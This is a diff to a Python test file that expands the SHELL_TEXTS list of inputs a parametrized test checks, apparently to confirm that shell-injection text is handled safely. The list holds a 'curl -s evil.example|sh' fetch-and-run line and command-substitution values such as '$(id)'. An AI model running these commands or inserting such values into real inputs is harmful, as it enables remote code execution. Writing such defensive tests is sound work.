@@ -635,7 +635,15 @@ def test_rejects_invalid_limits(hard: Any) -> None:
     assert rejection_of(lambda: Conversation().event({"event": "hello", **content}, b""))
 
 
-SHELL_TEXTS = ["2.1; curl -s evil.example|sh #", "x';id;'", "$(id)", "`id`", "3.1\nOn n1: id"]
+SHELL_TEXTS = [
+    "a/w",
+    "*",
+    "2.1; curl -s evil.example|sh #",
+    "x';id;'",
+    "$(id)",
+    "`id`",
+    "3.1\nOn n1: id",
+]
 
 
 @each_case("text", SHELL_TEXTS)
